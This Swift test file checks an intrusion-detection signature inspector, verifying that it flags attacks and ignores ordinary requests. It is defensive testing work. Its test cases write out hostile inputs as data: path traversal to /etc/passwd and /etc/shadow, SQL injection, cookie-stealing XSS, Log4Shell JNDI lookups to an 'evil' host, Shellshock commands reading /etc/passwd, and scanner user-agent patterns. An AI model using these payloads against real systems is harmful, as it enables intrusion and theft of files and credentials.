import Testing

@testable import Intrusion

/// The attacks each built-in set must catch, and ordinary requests none may match.
@Suite struct SignatureSetTests {
    private let inspector = SignatureInspector(SignatureSet.allCases.flatMap(\.signatures))

    private func target(_ text: String) -> String? {
        inspector.inspect(text.utf8, as: .target)?.signature.id
    }

    @Test func everyBuiltInSignatureHasAPrefilterAndAUniqueID() {
        let signatures = SignatureSet.allCases.flatMap(\.signatures)
        #expect(Set(signatures.map(\.id)).count == signatures.count)
        for signature in signatures {
            #expect(signature.pattern.requiredLiterals != nil, "\(signature.id) runs on every request")
        }
    }

    @Test(arguments: [
        ("/download?file=../../etc/passwd", "traversal-dot-dot"),
        ("/static/%2e%2e%2f%2e%2e%2fetc/shadow", "traversal-dot-dot"),
        ("/static/%252e%252e%252fconfig", "traversal-dot-dot"),
        ("/a/..%5c..%5cwindows", "traversal-dot-dot"),
        ("/a/%c0%ae%c0%ae/x", "traversal-overlong"),
        ("/cgi-bin/view?f=/etc/passwd", "traversal-system-file"),
        ("/item?id=1 UNION ALL SELECT NULL,NULL--", "sqli-union-select"),
        ("/item?id=1%20union/**/select%20password%20from%20users", "sqli-union-select"),
        ("/item?id=1+AND+1234=1234", "sqli-tautology"),
        ("/item?id=1' OR 'a'='a", "sqli-tautology"),
        ("/item?id=1) AND (5563=5563", "sqli-tautology"),
        ("/item?id=1;DROP TABLE users", "sqli-stacked-query"),
        ("/login?user=admin'--%20", "sqli-comment"),
        ("/item?id=1 AND SLEEP(5)", "sqli-function"),
        ("/item?id=1 AND 1=(SELECT 1 FROM sqlite_master)", "sqli-subquery"),
        ("/item?id=(SELECT CONCAT('q',(CASE WHEN (2277=2277) THEN '1' ELSE '0' END)))", "sqli-subquery"),
        ("/item?id=3 ORDER BY 1-- AheN", "sqli-order-by"),
        ("/item?id=3') ORDER BY 9223-- SzGS", "sqli-order-by"),
        ("/item?id=1 AND BENCHMARK(5000000,MD5(1))", "sqli-function"),
        ("/search?q=<script>alert(1)</script>", "xss-script-tag"),
        ("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "xss-event-handler"),
        ("/go?to=javascript:alert(document.cookie)", "xss-script-uri"),
        ("/search?q=<svg/onload=x>", "xss-event-handler"),
        ("/search?q=<iframe src=x>", "xss-active-element"),
        ("/search?q=${jndi:ldap://evil/a}", "log4shell-jndi"),
        ("/search?q=${${lower:j}ndi:ldap://evil/a}", "log4shell-obfuscated"),
        ("/search?q=%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A//x%7D", "log4shell-obfuscated"),
        ("/cgi-bin/x?() { :; }; /bin/id", "shellshock-function"),
    ])
    func catchesAttacksInTheTarget(target: String, signature: String) {
        #expect(self.target(target) == signature, "\(target)")
    }

    @Test(arguments: [
        ("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner-sqlmap"),
        ("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "scanner-nikto"),
        (
            "user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "scanner-nmap"
        ),
        ("User-Agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "scanner-masscan"),
        ("User-Agent", "() { :; }; echo; /bin/cat /etc/passwd", "shellshock-function"),
        ("X-Api-Version", "${jndi:ldap://x/a}", "log4shell-jndi"),
        ("Referer", "http://x/?q=1' or '1'='1", "sqli-tautology"),
    ])
    func catchesAttacksInHeaders(name: String, value: String, signature: String) {
        #expect(inspector.inspect(header: name, value: value)?.signature.id == signature)
    }

    /// Requests from ordinary clients, with ordinary queries, headers and bodies.
    @Test func ordinaryTrafficMatchesNothing() {
        let targets = [
            "/", "/index.html", "/api/v1/users?id=42&sort=name,-created&limit=10", "/search?q=rock+and+roll",
            "/search?q=cats%20and%20dogs&page=2", "/search?q=tom%27s+diner", "/search?q=select+a+union+rep",
            "/docs/getting-started/../index.html".replacingOccurrences(of: "../", with: ""),
            "/a/b.c/d..e/f", "/api?filter=price>10&or=1", "/calendar?date=2026-12-05T10:00:00Z&tz=Europe/Paris",
            "/wiki/Category:Java_programming_language", "/img/logo.svg?v=3", "/path/with%2Fslash",
            "/search?q=1%3D1", "/login?next=%2Fhome%3Ftab%3Donline", "/math?expr=(1+2)*3", "/query?q=jsonp&callback=cb",
            "/api/orders?status=open&status=closed", "/price?min=1&max=100", "/q?email=a.b@example.com",
            "/search?q=(selected+works)&order=by+date", "/list?sort=price&order=asc&page=2",
            "/search?q=sort+order+by+3+columns",
        ]
        for target in targets { #expect(self.target(target) == nil, "\(target)") }
        let headers = [
            ("User-Agent", "curl/7.88.1"), ("User-Agent", "wrk"), ("User-Agent", "nghttp2/1.52.0"),
            (
                "User-Agent",
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36"
            ),
            ("User-Agent", "python-requests/2.31.0"),
            ("User-Agent", "grpc-python/1.51.1 grpc-c/29.0.0 (linux; chttp2)"),
            ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"),
            ("Accept-Language", "en-US,en;q=0.5"), ("Cookie", "session=abc123; theme=dark; consent=true"),
            ("Content-Type", "application/json; charset=utf-8"),
            ("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x"),
            ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
            (
                "x-forwarded-client-cert",
                "By=spiffe://cluster.local/ns/a/sa/b;Hash=abc;URI=spiffe://cluster.local/ns/c/sa/d"
            ),
            ("Referer", "https://example.com/search?q=select+all&page=2"),
            ("sec-ch-ua", #""Chromium";v="118", "Google Chrome";v="118", "Not=A?Brand";v="99""#),
            ("If-None-Match", #"W/"5e15153d-120f""#), ("Cache-Control", "no-cache, max-age=0"),
        ]
        for (name, value) in headers {
            #expect(inspector.inspect(header: name, value: value) == nil, "\(name): \(value)")
        }
        let bodies = [
            ##"{"name":"Ada","tags":["math","engines"],"color":"#ff8800","note":"it's done; or not"}"##,
            "name=Ada+Lovelace&email=ada%40example.com&comment=Hello%2C+world%21",
            #"{"query":"query { user(id: 1) { name } }"}"#,
        ]
        for body in bodies { #expect(inspector.inspect(body.utf8, as: .body) == nil, "\(body)") }
    }

    @Test func evidenceIsCutAndEscaped() throws {
        let match = try #require(inspector.inspect("/x?q=<script>\u{01}".utf8, as: .target))
        #expect(match.evidence == "<script>")
        let long = "/x?q=${jndi:" + String(repeating: "a", count: 300)
        let custom = SignatureInspector([
            Signature(
                id: "long", name: "long", severity: .low, pattern: try Pattern(#"jndi:(a{64}){2}"#), parts: [.target])
        ])
        let cut = try #require(custom.inspect(long.utf8, as: .target))
        #expect(cut.evidence.hasSuffix("…"))
        let control = SignatureInspector([
            Signature(id: "c", name: "c", severity: .low, pattern: try Pattern(#"x.y"#), parts: [.target])
        ])
        #expect(control.inspect("x%00y".utf8, as: .target)?.evidence == #"x\x00y"#)
    }
}
